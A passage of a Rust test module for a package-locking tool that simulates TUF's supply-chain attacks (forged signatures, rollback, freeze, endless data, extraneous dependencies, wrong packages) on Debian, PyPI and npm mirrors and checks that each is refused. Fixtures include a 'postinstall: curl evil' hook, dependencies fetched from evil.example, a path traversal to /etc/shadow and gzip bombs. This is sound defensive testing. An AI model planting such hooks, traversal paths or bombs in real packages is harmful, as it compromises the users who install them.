//! TUF's ten attacks, on Debian's archives, PyPI, npm and files by their address.

use serde_json::json;

use crate::Class::{self, *};
use crate::signer::{Form, Signer};
use crate::testserver::Reply;
use crate::world::{Package, Tarball, Wheel, World, metadata, package, tarball, wheel};
use crate::{Case, Outcome, When};

pub(crate) const LOCK: &[&str] = &["lock"];
const UPDATE: &[&str] = &["lock", "--update"];
pub(crate) const BUILD: &[&str] = &["build"];

const DAY: i64 = 86_400;
/// Places of the suites in the world.
const MAIN: usize = 0;
const UPDATES: usize = 1;
const SECURITY: usize = 2;

pub(crate) fn case(
    class: Class,
    name: &'static str,
    command: &'static [&'static str],
    tamper: fn(&mut World),
    words: &'static [&'static str],
) -> Case {
    let (when, keys, outcome) = (When::Locked, "", Outcome::Refused);
    let keeps = false;
    Case { class, name, when, command, keys, tamper, outcome, keeps, words }
}

impl Case {
    pub(crate) fn first(self) -> Self {
        Self { when: When::First, ..self }
    }

    pub(crate) fn wrong_from_start(self) -> Self {
        Self { when: When::FromStart, ..self }
    }

    fn moved(self) -> Self {
        Self { when: When::Moved, ..self }
    }

    pub(crate) fn keeps(self) -> Self {
        Self { keeps: true, ..self }
    }

    fn keys(self, keys: &'static str) -> Self {
        Self { keys, ..self }
    }

    fn done(self) -> Self {
        Self { outcome: Outcome::Done, ..self }
    }
}

/// Sends `bytes` for ever.
fn endless(bytes: &'static [u8]) -> Reply {
    Reply { endless: true, ..Reply::ok(bytes.repeat(4096)) }
}

/// Has another one sign a suite's index.
fn signed(world: &mut World, at: usize, sign: impl Fn(&str, i64) -> String) {
    let suite = &world.suites[at];
    let (path, text) = (suite.in_release(), sign(&suite.release(), world.now));
    world.bytes(path, text);
}

/// Other contents at the place of a package's file, of the same size.
fn flip(bytes: &[u8]) -> Vec<u8> {
    let mut bytes = bytes.to_vec();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 1;
    bytes
}

fn newest(world: &mut World, project: &str) -> usize {
    let all = world.wheels.iter().enumerate().filter(|(_, it)| it.project == project);
    all.max_by_key(|(_, it)| it.version).expect("a wheel").0
}

pub(crate) fn all() -> Vec<Case> {
    let parts = [
        arbitrary_installation(),
        endless_data(),
        extraneous_dependencies(),
        fast_forward(),
        indefinite_freeze(),
        preventing_updates(),
        mix_and_match(),
        rollback(),
        key_compromise(),
        wrong_software(),
        controls(),
    ];
    parts.into_iter().flatten().collect()
}

fn arbitrary_installation() -> Vec<Case> {
    let case =
        |name, command, tamper, words| case(ArbitraryInstallation, name, command, tamper, words);
    vec![
        case(
            "an index of a foreign key",
            LOCK,
            |world| {
                signed(world, MAIN, |text, now| Signer::new(7).sign_at(text, now));
            },
            &["dists/trixie/InRelease", "no pinned key signed it", "not a pinned key"],
        ),
        case(
            "an index that nobody signed",
            LOCK,
            |world| {
                signed(world, MAIN, |text, _| text.to_owned());
            },
            &["dists/trixie/InRelease", "no signature in it"],
        ),
        case(
            "another package list",
            LOCK,
            |world| {
                let suite = &world.suites[MAIN];
                world.bytes(suite.by_hash(), flip(&suite.packed()));
            },
            &["SHA-256 is", "tampered with"],
        ),
        case(
            "a changed index",
            LOCK,
            |world| {
                let (path, now) = (world.suites[MAIN].in_release(), world.now);
                let text = Signer::new(1).sign_at(&world.suites[MAIN].release(), now);
                world.bytes(path, text.replace("amd64/Packages", "amd64/Pwned"));
            },
            &["the text is not what this key signed"],
        ),
        case(
            "another package",
            BUILD,
            |world| {
                let bytes = world.suites[MAIN].packages["server"].bytes.clone();
                world.bytes(world.pool("server"), flip(&bytes));
            },
            &["server 1.0-1", "no place has it", "wrong bytes, with SHA-256"],
        ),
        case(
            "another wheel",
            BUILD,
            |world| {
                let bytes = world.wheels[1].bytes.clone();
                world.bytes("/files/app-1.1-py3-none-any.whl", flip(&bytes));
            },
            &["app-1.1-py3-none-any.whl", "wrong bytes, with SHA-256"],
        ),
        case(
            "another tarball",
            BUILD,
            |world| {
                world.bytes("/npm/widget/-/widget-1.1.0.tgz", flip(&world.npm[0].bytes.clone()));
            },
            &["widget 1.1.0", "wrong bytes, with SHA-256"],
        ),
        case(
            "another file",
            BUILD,
            |world| world.page = b"the fake\n".to_vec(),
            &["page", "wrong bytes, with SHA-256"],
        ),
        case(
            "another wheel than the index says",
            LOCK,
            |world| {
                world.bytes(
                    "/files/lib-1.0-py3-none-any.whl",
                    wheel("lib", "1.0", "Name: lib\nVersion: 1.0\n"),
                );
            },
            &["lib-1.0-py3-none-any.whl", "wrong bytes, with SHA-256"],
        )
        .first(),
        case(
            "another wheel and the index with it",
            LOCK,
            |world| {
                let at = newest(world, "app");
                let text = format!("{}Summary: evil\n", metadata("app", "1.1", &["lib"]));
                world.wheels[at].bytes = wheel("app", "1.1", &text);
                world.wheels[at].metadata = Some(text);
            },
            &["input app: wrong bytes from BASE/files/app-1.1", "`chatimg lock --update app`"],
        ),
        case(
            "another tarball than the registry says",
            LOCK,
            |world| {
                world.bytes("/npm/widget/-/widget-1.1.0.tgz", flip(&world.npm[0].bytes.clone()));
            },
            &["widget-1.1.0.tgz", "it is not what the registry announces"],
        )
        .first(),
        case(
            "another tarball and the registry with it",
            LOCK,
            |world| {
                let json = json!({
                    "name": "widget", "version": "1.1.0", "dependencies": {"gear": "^2"},
                    "scripts": {"postinstall": "curl evil"},
                });
                world.npm[0].bytes = tarball(&json);
            },
            &[
                "input widget: wrong bytes from BASE/npm/widget/-/widget-1.1.0.tgz, sha512-",
                "`chatimg lock --update widget`",
            ],
        ),
        case(
            "another file at a locked address",
            LOCK,
            |world| {
                world.page = b"the fake\n".to_vec();
            },
            &["input page: wrong bytes from BASE/url/page.txt", "`chatimg lock --update page`"],
        )
        .moved(),
        case(
            "a tarball without a digest",
            UPDATE,
            |world| {
                let mut said = world.npm[0].manifest(&world.base);
                said["dist"]["integrity"] = json!("sha1-xxxx");
                let document = json!({"versions": {"1.1.0": said}});
                world.bytes("/npm/widget", document.to_string());
            },
            &["version 1.1.0 has no SHA-512, so it cannot be checked"],
        ),
    ]
}

fn endless_data() -> Vec<Case> {
    let case = |name, command, tamper, words| case(EndlessData, name, command, tamper, words);
    vec![
        case(
            "an index",
            LOCK,
            |world| {
                world.put(world.suites[MAIN].in_release(), |_| endless(b"Codename: trixie\n"));
            },
            &["dists/trixie/InRelease", "more than the 4194304 bytes it may have"],
        ),
        case(
            "a package list",
            LOCK,
            |world| {
                let path = world.suites[MAIN].by_hash();
                world.put(path, |_| endless(b"\xfd7zXZ\0"));
            },
            &["by-hash", "bytes it may have"],
        ),
        case(
            "a package",
            BUILD,
            |world| {
                world.put(world.pool("server"), |_| endless(b"!<arch>\n"));
            },
            &["server 1.0-1", "bytes it may have"],
        ),
        case(
            "a package that says its length",
            BUILD,
            |world| {
                let bytes = vec![0; 1 << 20];
                world.bytes(world.pool("server"), bytes);
            },
            &["server 1.0-1", "bytes it may have"],
        ),
        case(
            "a project's page",
            LOCK,
            |world| {
                world.put("/pypi/app/", |_| endless(b"<a href=x>x</a>\n"));
            },
            &["/pypi/app/", "more than the 67108864 bytes it may have"],
        ),
        case(
            "a project's page that unpacks to more",
            LOCK,
            |world| {
                let zeros = crate::make::pack(".gz", &vec![b' '; 65 << 20]);
                world.put("/pypi/app/", move |_| {
                    Reply::ok(zeros.clone()).header("Content-Encoding", "gzip")
                });
            },
            &["/pypi/app/", "more than the 67108864 bytes it may have"],
        ),
        case(
            "METADATA",
            LOCK,
            |world| {
                world.put("/files/app-1.1-py3-none-any.whl.metadata", |_| endless(b"Name: app\n"));
            },
            &[".metadata", "more than the 8388608 bytes it may have"],
        )
        .first(),
        case(
            "requirements",
            LOCK,
            |world| {
                let at = newest(world, "app");
                let all = vec!["lib"; 40_000];
                world.wheels[at] = Wheel::new("app", "9.9", &all);
                world.wheels.retain(|it| it.project != "app" || it.version == "9.9");
            },
            &["its METADATA has more requirements than any wheel"],
        )
        .first(),
        case(
            "gzip that unpacks to nothing",
            LOCK,
            |world| {
                // A member without contents, whose header has as much more as may be.
                let member = [
                    b"\x1f\x8b\x08\x04\0\0\0\0\0\xff\xff\xff",
                    &[0; 0xffff][..],
                    b"\x03\0",
                    &[0; 8],
                ];
                let member = member.concat();
                world.put("/pypi/app/", move |_| {
                    let endless = Reply { endless: true, ..Reply::ok(member.clone()) };
                    endless.header("Content-Encoding", "gzip")
                });
            },
            &["/pypi/app/", "more than the 67108864 bytes it may have"],
        ),
        case(
            "a registry's document",
            LOCK,
            |world| {
                world.put("/npm/widget", |_| endless(b"{\"versions\":"));
            },
            &["/npm/widget", "more than the 67108864 bytes it may have"],
        ),
        case(
            "versions",
            LOCK,
            |world| {
                let all: Vec<_> = (0..60_000).map(|it| format!("\"0.0.{it}\":0")).collect();
                world.bytes("/npm/widget", format!("{{\"versions\":{{{}}}}}", all.join(",")));
            },
            &["a map of at most 50000 entries"],
        ),
        case(
            "redirects",
            LOCK,
            |world| {
                let to = format!("{}debian/dists/trixie/InRelease", world.base);
                world.put(world.suites[MAIN].in_release(), move |_| Reply::redirect(&to));
            },
            &["dists/trixie/InRelease", "more than 10 redirects"],
        ),
        case(
            "projects that need one more",
            LOCK,
            |world| {
                // Each project on its own page needs the next one.
                let base = world.base.clone();
                let number = |path: &str| {
                    let digits: String = path.chars().filter(char::is_ascii_digit).collect();
                    digits.parse::<u64>().unwrap_or(0)
                };
                world.put("/pypi/lib/", move |_| {
                    Reply::ok("<a href='lib-1.0-py3-none-any.whl'>x</a>")
                });
                world.bytes(
                    "/pypi/lib/lib-1.0-py3-none-any.whl",
                    wheel("lib", "1.0", &metadata("lib", "1.0", &["p1"])),
                );
                world.below.insert(
                    "/pypi/p".to_owned(),
                    std::sync::Arc::new(move |asked| {
                        _ = &base;
                        let path = asked.path.trim_start_matches("/pypi/");
                        let of =
                            |text: &str| number(text.split(['/', '-']).next().unwrap_or_default());
                        let it = of(path);
                        match path.ends_with(".whl") {
                            true => {
                                let (name, next) = (format!("p{it}"), format!("p{}", it + 1));
                                Reply::ok(wheel(&name, "1", &metadata(&name, "1", &[&next])))
                            }
                            false => Reply::ok(format!("<a href='p{it}-1-py3-none-any.whl'>x</a>")),
                        }
                    }),
                );
            },
            &["projects are needed"],
        )
        .first()
        .keeps(),
        case(
            "npm packages that need one more",
            LOCK,
            |world| {
                let base = world.base.clone();
                world.npm[2] = Tarball::new("gear", "2.0.0", json!({"p1": "*"}));
                world.below.insert(
                    "/npm/p".to_owned(),
                    std::sync::Arc::new(move |asked| {
                        let path = asked.path.trim_start_matches("/npm/");
                        let digits: String =
                            path.chars().skip(1).take_while(char::is_ascii_digit).collect();
                        let it: u64 = digits.parse().unwrap_or(0);
                        let made = Tarball::new(
                            &format!("p{it}"),
                            "1.0.0",
                            json!({format!("p{}", it + 1): "*"}),
                        );
                        match path.ends_with(".tgz") {
                            true => Reply::ok(made.bytes),
                            false => {
                                let versions = json!({"1.0.0": made.manifest(&base)});
                                Reply::ok(json!({"versions": versions}).to_string())
                            }
                        }
                    }),
                );
            },
            &["more than 100 packages need each other"],
        )
        .first()
        .keeps(),
    ]
}

fn extraneous_dependencies() -> Vec<Case> {
    let case =
        |name, command, tamper, words| case(ExtraneousDependencies, name, command, tamper, words);
    vec![
        case(
            "in the package list",
            LOCK,
            |world| {
                let path = world.suites[MAIN].by_hash();
                let mut suite = world.suites[MAIN].clone();
                suite.packages.get_mut("server").expect("it").more = "Depends: evil".to_owned();
                world.bytes(path, suite.packed());
            },
            &["by-hash"],
        ),
        case(
            "in METADATA that only the index has",
            UPDATE,
            |world| {
                let at = newest(world, "app");
                world.wheels.push(Wheel::new("evil", "1.0", &[]));
                world.wheels[at].metadata = Some(metadata("app", "1.1", &["lib", "evil"]));
            },
            &["app-1.1", "its METADATA is not what the index says that it is"],
        ),
        case(
            "left out of METADATA that only the index has",
            UPDATE,
            |world| {
                let at = newest(world, "app");
                world.wheels[at].metadata = Some(metadata("app", "1.1", &[]));
            },
            &["app-1.1", "its METADATA is not what the index says that it is"],
        ),
        case(
            "in METADATA without its digest",
            LOCK,
            |world| {
                world.bytes(
                    "/files/app-1.1-py3-none-any.whl.metadata",
                    metadata("app", "1.1", &["lib", "evil"]),
                );
            },
            &["app-1.1", "wrong bytes, with SHA-256"],
        )
        .first(),
        case(
            "by an address in METADATA",
            LOCK,
            |world| {
                world.wheels.retain(|it| it.project != "app");
                world.wheels.push(Wheel::new(
                    "app",
                    "1.1",
                    &["evil @ https://evil.example/evil.whl"],
                ));
            },
            &["it needs an address", "evil"],
        )
        .first(),
        case(
            "that the registry makes up",
            UPDATE,
            |world| {
                world.npm.push(Tarball::new("evil", "1.0.0", json!({})));
                world.npm[0].said["dependencies"]["evil"] = json!("*");
            },
            &["widget-1.1.0.tgz", "disagree about its dependency \"evil\""],
        ),
        case(
            "that the registry hides",
            LOCK,
            |world| {
                let json = json!({"name": "widget", "version": "1.1.0", "dependencies": {"gear": "^2", "evil": "*"}});
                world.npm[0].bytes = tarball(&json);
            },
            &["widget-1.1.0.tgz", "disagree about its dependency \"evil\""],
        ).first(),
        case(
            "by an address in the registry",
            LOCK,
            |world| {
                world.npm[0] =
                    Tarball::new("widget", "1.1.0", json!({"gear": "git+https://evil.example/x"}));
            },
            &["npm package gear (needed by widget): 'git+https://evil.example/x' is not a range"],
        ).first()
        .keeps(),
        case(
            "by another name in the registry",
            LOCK,
            |world| {
                world.npm[0] = Tarball::new("widget", "1.1.0", json!({"gear": "npm:evil@1"}));
            },
            &["'npm:evil@1' is not a range"],
        ).first()
        .keeps(),
    ]
}

fn fast_forward() -> Vec<Case> {
    let case = |name, command, tamper, words| case(FastForward, name, command, tamper, words);
    vec![
        case(
            "an index of the next decade",
            LOCK,
            |world| {
                world.suites[MAIN].date = world.now + 3650 * DAY;
            },
            &["the index of 'trixie' was made", "is this machine's clock right?"],
        ),
        case(
            "security of next month",
            LOCK,
            |world| {
                world.suites[SECURITY].date = world.now + 30 * DAY;
                world.suites[SECURITY].valid = Some(world.now + 3650 * DAY);
            },
            &["the index of 'trixie-security' was made", "clock right?"],
        ),
        case(
            "a signature of the next decade",
            LOCK,
            |world| {
                signed(world, MAIN, |text, now| Signer::new(1).sign_at(text, now + 3650 * DAY));
            },
            &["it is not valid at this time"],
        ),
        case(
            "at the first lock",
            LOCK,
            |world| {
                world.suites[UPDATES].date = world.now + 3650 * DAY;
                world.suites[UPDATES].valid = Some(world.now + 3660 * DAY);
            },
            &["the index of 'trixie-updates' was made", "clock right?"],
        )
        .first(),
        case(
            "a wheel of version 999",
            UPDATE,
            |world| {
                let it = Wheel::new("app", "1.1", &["lib"]);
                let shown = Some(metadata("app", "999.0", &["lib"]));
                world.wheels.push(Wheel { version: "999.0", metadata: shown, ..it });
            },
            &["app-999.0", "its METADATA is not of version 999.0, but of \"1.1\""],
        ),
        case(
            "a tarball of version 1.999",
            UPDATE,
            |world| {
                let mut it = Tarball::new("widget", "1.1.0", json!({"gear": "^2"}));
                it.version = "1.999.0".to_owned();
                world.npm.push(it);
                world.tags.insert("widget", json!({"latest": "1.999.0"}));
            },
            &["it is \"widget\" \"1.1.0\", not widget 1.999.0"],
        ),
    ]
}

fn indefinite_freeze() -> Vec<Case> {
    let case = |name, command, tamper, words| case(IndefiniteFreeze, name, command, tamper, words);
    vec![
        case(
            "security's index has expired",
            LOCK,
            |world| {
                world.suites[SECURITY].valid = Some(world.now - 60);
            },
            &["the index of 'trixie-security' was valid until", "withholds updates"],
        ),
        case(
            "the updates' index has expired",
            LOCK,
            |world| {
                world.suites[UPDATES].valid = Some(world.now - 30 * DAY);
            },
            &["the index of 'trixie-updates' was valid until", "withholds updates"],
        ),
        case(
            "an expired index at the first lock",
            LOCK,
            |world| {
                world.suites[SECURITY].valid = Some(world.now - 1);
            },
            &["the index of 'trixie-security' was valid until"],
        )
        .first(),
        case(
            "the signature has expired",
            LOCK,
            |world| {
                let text = {
                    let lifetime = (3, 3600_u32.to_be_bytes().to_vec());
                    let form = Form::new(1, world.now - 7200, [lifetime]);
                    world.suites[MAIN].signed(&Signer::new(1), form)
                };
                world.bytes(world.suites[MAIN].in_release(), text);
            },
            &["it is not valid at this time"],
        ),
        case(
            "no date",
            LOCK,
            |world| {
                let text = world.suites[MAIN].release();
                let text: Vec<_> = text.lines().filter(|line| !line.starts_with("Date:")).collect();
                let text = format!("{}\n", text.join("\n"));
                world.bytes(
                    world.suites[MAIN].in_release(),
                    Signer::new(1).sign_at(&text, world.now),
                );
            },
            &["the Release file has no field 'Date'"],
        ),
        case(
            "main's index, which never expires, is told when it is old",
            LOCK,
            |world| {
                world.suites[MAIN].date = world.now - 200 * DAY;
            },
            &["warning: the index of 'trixie' was made 200 days ago", "may be stale or withhold"],
        )
        .first()
        .done(),
        case(
            "the locked version is withheld by the registry",
            LOCK,
            |world| {
                world.npm.retain(|it| it.version != "1.1.0");
            },
            &["widget is locked at 1.1.0", "`chatimg lock --update widget`"],
        ),
    ]
}

fn preventing_updates() -> Vec<Case> {
    let case = |name, command, tamper, words| case(PreventingUpdates, name, command, tamper, words);
    vec![
        case(
            "there is no index",
            LOCK,
            |world| {
                world.put(world.suites[MAIN].in_release(), |_| Reply::status(404));
            },
            &["no place has a good index of trixie", "BASE/debian/", "BASE/mirror/debian/", "404"],
        ),
        case(
            "the archive is down",
            LOCK,
            |world| {
                world.put(world.suites[SECURITY].in_release(), |_| Reply::status(503));
            },
            &["dists/trixie-security/InRelease", "HTTP status 503"],
        ),
        case(
            "a page to log in at",
            LOCK,
            |world| {
                world.bytes(
                    world.suites[SECURITY].in_release(),
                    "<html>Welcome to our Wi-Fi</html>\n",
                );
            },
            &["dists/trixie-security/InRelease", "no signature in it"],
        ),
        case(
            "an index cut short",
            LOCK,
            |world| {
                let text = Signer::new(2).sign_at(&world.suites[SECURITY].release(), world.now);
                world.put(world.suites[SECURITY].in_release(), move |_| Reply {
                    cut: Some(200),
                    ..Reply::ok(text.clone())
                });
            },
            &["dists/trixie-security/InRelease", "ended after 200 of"],
        ),
        case(
            "a package is missing",
            BUILD,
            |world| {
                world.put(world.pool("server"), |_| Reply::status(404));
            },
            &["server 1.0-1", "no place has it", "404", "`chatimg lock --update server`"],
        ),
        case(
            "a package is cut short",
            BUILD,
            |world| {
                let bytes = world.suites[MAIN].packages["server"].bytes.clone();
                world.put(world.pool("server"), move |_| Reply {
                    cut: Some(20),
                    ..Reply::ok(bytes.clone())
                });
            },
            &["server 1.0-1", "no place has it"],
        ),
        case(
            "a project is gone",
            LOCK,
            |world| {
                world.put("/pypi/app/", |_| Reply::status(404));
            },
            &["app was asked for at BASE/pypi/", "nobody there knows it"],
        ),
        case(
            "the registry speaks no JSON",
            LOCK,
            |world| {
                world.bytes("/npm/widget", "<html>");
            },
            &["/npm/widget is not a package's"],
        ),
        case(
            "a registry of very deep JSON",
            LOCK,
            |world| {
                world.bytes("/npm/widget", "{\"versions\":".repeat(200_000));
            },
            &["/npm/widget is not a package's"],
        ),
    ]
}

fn mix_and_match() -> Vec<Case> {
    let case = |name, command, tamper, words| case(MixAndMatch, name, command, tamper, words);
    vec![
        case(
            "another suite's index",
            LOCK,
            |world| {
                let other = Signer::new(1).sign_at(&world.suites[UPDATES].release(), world.now);
                world.bytes(world.suites[MAIN].in_release(), other);
            },
            &["asked for suite 'trixie', the archive answered with 'trixie-updates'"],
        ),
        case(
            "an older Debian's index",
            LOCK,
            |world| {
                world.suites[MAIN].codename = "bookworm".to_owned();
            },
            &["asked for suite 'trixie', the archive answered with 'bookworm'"],
        ),
        case(
            "security's index as the updates'",
            LOCK,
            |world| {
                let other = Signer::new(2).sign_at(&world.suites[SECURITY].release(), world.now);
                world.bytes(world.suites[UPDATES].in_release(), other);
            },
            &["dists/trixie-updates/InRelease", "not a pinned key"],
        ),
        case(
            "another suite's package list",
            LOCK,
            |world| {
                let other = world.suites[UPDATES].packed();
                world.bytes(world.suites[MAIN].by_hash(), other);
            },
            &["by-hash", "the signed index lists"],
        ),
        case(
            "yesterday's package list",
            LOCK,
            |world| {
                let old = world.suites[MAIN].packed();
                let newer = Package::new("server", "2.0-1", "Depends: library (>= 1)");
                world.suites[MAIN].packages.insert("server".to_owned(), newer);
                world.bytes(world.suites[MAIN].by_hash(), old);
            },
            &["by-hash"],
        ),
        case(
            "another package's file",
            BUILD,
            |world| {
                let other = world.suites[MAIN].packages["kmod"].bytes.clone();
                world.bytes(world.pool("server"), other);
            },
            &["server 1.0-1", "no place has it"],
        ),
        case(
            "an older file of the package",
            BUILD,
            |world| {
                world.bytes(world.pool("library"), package("library", "0.9-1", "amd64"));
            },
            &["library 1.1-1", "no place has it"],
        ),
        case(
            "another release's METADATA",
            UPDATE,
            |world| {
                let at = newest(world, "app");
                world.wheels[at].metadata = Some(metadata("app", "1.0", &["lib"]));
            },
            &["app-1.1-py3-none-any.whl", "its METADATA is not what the index says that it is"],
        ),
    ]
}

fn rollback() -> Vec<Case> {
    let case = |name, command, tamper, words| case(Rollback, name, command, tamper, words);
    vec![
        case(
            "main's index of last week",
            LOCK,
            |world| {
                world.suites[MAIN].date = world.now - 7 * DAY;
            },
            &["the index of 'trixie' was made", "rolled back"],
        ),
        case(
            "security's index of an hour before",
            LOCK,
            |world| {
                world.suites[SECURITY].date -= 3600;
            },
            &["the index of 'trixie-security' was made", "rolled back"],
        ),
        case(
            "the updates' index of a second before",
            UPDATE,
            |world| {
                world.suites[UPDATES].date -= 1;
            },
            &["the index of 'trixie-updates' was made", "rolled back"],
        ),
        case(
            "an older package at its path",
            BUILD,
            |world| {
                world.bytes(world.pool("server"), package("server", "0.9-1", "amd64"));
            },
            &["server 1.0-1", "no place has it"],
        ),
        case(
            "the index hides the locked release",
            LOCK,
            |world| {
                world.wheels.retain(|it| it.version != "1.1");
            },
            &["app is locked at 1.1", "BASE/pypi/", "`chatimg lock --update app`"],
        ),
        case(
            "the index withdraws the locked release's wheel",
            LOCK,
            |world| {
                world.bytes("/pypi/app/", {
                    let it = world.wheels[0].clone();
                    let digest = chatimg::digest::Digest::of(&it.bytes);
                    let gone = "<a href='/files/app-1.1-py3-none-any.whl' data-yanked>x</a>";
                    format!("<a href='/files/app-1.0-py3-none-any.whl#sha256={digest}'>x</a>{gone}")
                });
            },
            &["app is locked at 1.1"],
        ),
        case(
            "the index says that the locked release needs what there is not",
            LOCK,
            |world| {
                let at = newest(world, "app");
                let text = metadata("app", "1.1", &["lib", "nowhere-to-be-found"]);
                world.wheels[at].metadata = Some(text);
            },
            &["app-1.1", "its METADATA is not what the index says that it is"],
        ),
        case(
            "the index shows rubbish as the locked release's METADATA",
            LOCK,
            |world| {
                let at = newest(world, "app");
                world.wheels[at].metadata = Some("!".to_owned());
            },
            &["app-1.1", "its METADATA is not what the index says that it is"],
        ),
        case(
            "the same before a newer one, which is evil",
            LOCK,
            |world| {
                let at = newest(world, "app");
                world.wheels[at].metadata = Some(metadata("app", "1.1", &["nowhere"]));
                world.wheels.push(Wheel::new("app", "2.0", &[]));
            },
            &["app-1.1", "its METADATA is not what the index says that it is"],
        ),
        case(
            "the index has another wheel of the locked release, of no use",
            LOCK,
            |world| {
                let (old, file) = (world.wheels[0].bytes.clone(), "app-1.1-1-py3-none-any.whl");
                let said = metadata("app", "1.1", &["lib", "nowhere-to-be-found"]);
                let of = |bytes: &[u8]| chatimg::digest::Digest::of(bytes);
                let links = format!(
                    "<a href='/files/app-1.0-py3-none-any.whl#sha256={}'>x</a>\
                     <a href='/files/{file}' data-core-metadata='sha256={}'>x</a>",
                    of(&old),
                    of(said.as_bytes())
                );
                world.bytes("/pypi/app/", links);
                world.bytes(format!("/files/{file}.metadata"), said);
            },
            &["app would go back from 1.1, which is locked, to 1.0", "`chatimg lock --update app`"],
        ),
        case(
            "the registry hides the locked version",
            LOCK,
            |world| {
                world.npm.remove(0);
            },
            &["widget is locked at 1.1.0"],
        ),
        case(
            "an old wheel under a new name",
            LOCK,
            |world| {
                world.wheels[1].bytes = world.wheels[0].bytes.clone();
            },
            &["its METADATA is not of version 1.1, but of \"1.0\""],
        )
        .first(),
    ]
}

fn key_compromise() -> Vec<Case> {
    let case = |name, tamper, words| case(KeyCompromise, name, LOCK, tamper, words);
    vec![
        case("the key was revoked", |_| (), &["the key was revoked"]).keys("revoked"),
        case("the key has expired", |_| (), &["the key has expired"]).keys("expired"),
        case("the key is not for signing", |_| (), &["does not allow the key to sign"])
            .keys("not for signing"),
        case(
            "security's key signs main",
            |world| {
                signed(world, MAIN, |text, now| Signer::new(2).sign_at(text, now));
            },
            &["dists/trixie/InRelease", "not a pinned key"],
        ),
        case(
            "main's key signs security",
            |world| {
                signed(world, SECURITY, |text, now| Signer::new(1).sign_at(text, now));
            },
            &["dists/trixie-security/InRelease", "not a pinned key"],
        ),
        case(
            "the key that only certifies",
            |world| {
                let signer = Signer::new(1);
                let suite = &world.suites[MAIN];
                let text = suite.release();
                let body =
                    crate::signer::sign_text(&signer.primary, &text, Form::new(1, world.now, []));
                world.bytes(suite.in_release(), crate::signer::clear(&text, &[body]));
            },
            &["does not allow the key to sign"],
        ),
        case(
            "SHA-1, for which others' texts can be made",
            |world| {
                let form = Form { hash: 2, ..Form::new(1, world.now, []) };
                let text = world.suites[MAIN].signed(&Signer::new(1), form);
                world.bytes(world.suites[MAIN].in_release(), text);
            },
            &["its hash is too weak"],
        ),
        case(
            "MD5",
            |world| {
                let form = Form { hash: 1, ..Form::new(1, world.now, []) };
                let text = world.suites[MAIN].signed(&Signer::new(1), form);
                world.bytes(world.suites[MAIN].in_release(), text);
            },
            &["its hash is too weak"],
        ),
        case(
            "a signature of something else",
            |world| {
                let text =
                    world.suites[MAIN].signed(&Signer::new(1), Form::new(0x13, world.now, []));
                world.bytes(world.suites[MAIN].in_release(), text);
            },
            &["not a signature of a text"],
        ),
        case(
            "a signature that asks for more",
            |world| {
                let form = Form::new(1, world.now, [(0x80 | 100, vec![1])]);
                let text = world.suites[MAIN].signed(&Signer::new(1), form);
                world.bytes(world.suites[MAIN].in_release(), text);
            },
            &["it has a critical part unknown to us"],
        ),
    ]
}

fn wrong_software() -> Vec<Case> {
    let case = |name, command, tamper, words| case(WrongSoftware, name, command, tamper, words);
    vec![
        case(
            "a package that says it is another",
            BUILD,
            |world| {
                let it = world.suites[MAIN].packages.get_mut("kmod").expect("it");
                it.bytes = package("rootkit", "1.0-1", "amd64");
            },
            &["package kmod: its Package is 'rootkit', but 'kmod' is locked"],
        )
        .wrong_from_start(),
        case(
            "a package that says it is older",
            BUILD,
            |world| {
                let it = world.suites[MAIN].packages.get_mut("kmod").expect("it");
                it.bytes = package("kmod", "0.1-1", "amd64");
            },
            &["package kmod: its Version is '0.1-1', but '1.0-1' is locked"],
        )
        .wrong_from_start(),
        case(
            "a package for another machine",
            BUILD,
            |world| {
                let it = world.suites[MAIN].packages.get_mut("kmod").expect("it");
                it.bytes = package("kmod", "1.0-1", "arm64");
            },
            &["package kmod: its Architecture is 'arm64'"],
        )
        .wrong_from_start(),
        case(
            "an index of another machine's packages",
            LOCK,
            |world| {
                world.suites[MAIN].architectures = "all arm64".to_owned();
            },
            &["has no architecture 'amd64'"],
        ),
        case(
            "packages of another machine",
            LOCK,
            |world| {
                let it = world.suites[MAIN].packages.get_mut("server").expect("it");
                it.arch = "i386".to_owned();
            },
            &["package server", "its architecture is 'i386'"],
        ),
        case(
            "a path out of the pool",
            LOCK,
            |world| {
                let stanza = "Description: x\nfilename: pool/../../../etc/shadow.deb\n";
                world.suites[MAIN].stanza = stanza.to_owned();
            },
            &["reading the package index of 'trixie'"],
        ),
        case(
            "another project's wheel",
            LOCK,
            |world| {
                let at = newest(world, "app");
                world.wheels[at].bytes = wheel("root", "1.1", &metadata("root", "1.1", &[]));
            },
            &["its METADATA does not name app, but \"root\""],
        )
        .first(),
        case(
            "another package's tarball",
            LOCK,
            |world| {
                world.npm[0].bytes = tarball(
                    &json!({"name": "rootkit", "version": "1.1.0", "dependencies": {"gear": "^2"}}),
                );
            },
            &["it is \"rootkit\" \"1.1.0\", not widget 1.1.0"],
        )
        .first(),
        case(
            "a tarball whose package.json is another for whoever unpacks it",
            LOCK,
            |world| {
                let right =
                    json!({"name": "widget", "version": "1.1.0", "dependencies": {"gear": "^2"}});
                let other = json!({"name": "widget", "version": "1.1.0"});
                let tar = crate::make::Tar::new().pax(b'x', &[("path", "package/x")]);
                let tar = tar.file("package/package.json", &right.to_string());
                let tar = tar.file("package/package.json", &other.to_string());
                world.npm[0].bytes = crate::make::pack(".gz", &tar.end());
            },
            &["package.json and the registry disagree about its dependency \"gear\""],
        )
        .first(),
        case(
            "a stranger's project at the second index, while the first is shut",
            LOCK,
            |world| {
                world.put("/pypi/app/", |_| Reply::status(403));
                let evil = Wheel::new("app", "9.0", &[]);
                let digest = chatimg::digest::Digest::of(&evil.bytes);
                let link =
                    format!("<a href='/files/app-9.0-py3-none-any.whl#sha256={digest}'>x</a>");
                world.bytes("/mirror/pypi/app/", link);
                world.bytes("/files/app-9.0-py3-none-any.whl", evil.bytes);
            },
            &["BASE/pypi/app/", "HTTP status 403"],
        ),
        case(
            "a stranger's package at the second registry, while the first is shut",
            LOCK,
            |world| {
                world.put("/npm/widget", |_| Reply::status(401));
                let evil = Tarball::new("widget", "1.9.0", json!({}));
                let versions = json!({"1.9.0": evil.manifest(&world.base)});
                world.bytes("/mirror/npm/widget", json!({"versions": versions}).to_string());
                world.bytes(evil.path(), evil.bytes);
            },
            &["BASE/npm/widget", "HTTP status 401"],
        ),
        case(
            "a tarball for another machine",
            UPDATE,
            |world| {
                world.npm[0].said["os"] = json!(["win32"]);
            },
            &["version 1.1.0 is not for Linux on x86_64"],
        ),
        case(
            "a tarball of this machine's own files",
            UPDATE,
            |world| {
                let mut said = world.npm[0].manifest(&world.base);
